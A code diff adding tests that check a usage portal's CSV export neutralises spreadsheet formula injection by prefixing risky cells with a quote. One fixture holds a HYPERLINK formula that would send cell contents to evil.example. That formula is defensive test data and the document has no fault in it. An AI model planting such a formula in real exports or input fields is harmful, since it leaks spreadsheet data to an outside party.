@@ -135,6 +135,29 @@ def test_csv_export(usage, api):
                              "util_avg", "util_max", "samples", "workloads"]
 
 
+def test_csv_cells_are_never_formulas(usage, api):
+    """A workload named like a formula reaches the admin's spreadsheet as text (OWASP: a single
+    quote in front); numbers stay numbers."""
+    from portal.workloads.models import Workload
+
+    names = {"train": '=HYPERLINK("http://evil.example/?"&A1,"report")', "infer": "@SUM(1+1)"}
+    for key, name in names.items():
+        Workload.objects.filter(pk=usage[key].pk).update(name=name)
+    response = api("researcher", "vision-lab", group_by="workload", format="csv", **DAY)
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    assert [r["workload"] for r in rows] == ["'" + names["train"], "'" + names["infer"]]
+    assert float(rows[0]["gpu_hours_allocated"]) == 4.0
+
+
+@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+A1", "@A1", "\t=1", "\r=1"])
+def test_every_formula_start_is_neutralised(value):
+    from portal.usage.api.renderers import UsageCsvRenderer
+
+    body = UsageCsvRenderer().render({"columns": ["name", "n"],
+                                      "results": [{"name": value, "n": -3}]})
+    assert list(csv.reader(io.StringIO(body.decode())))[1] == ["'" + value, "-3"]
+
+
 @pytest.mark.parametrize(("params", "field"), [
     ({"since": "yesterday"}, "since"),
     ({"since": "2025-03-05", "until": "2025-03-01"}, "until"),
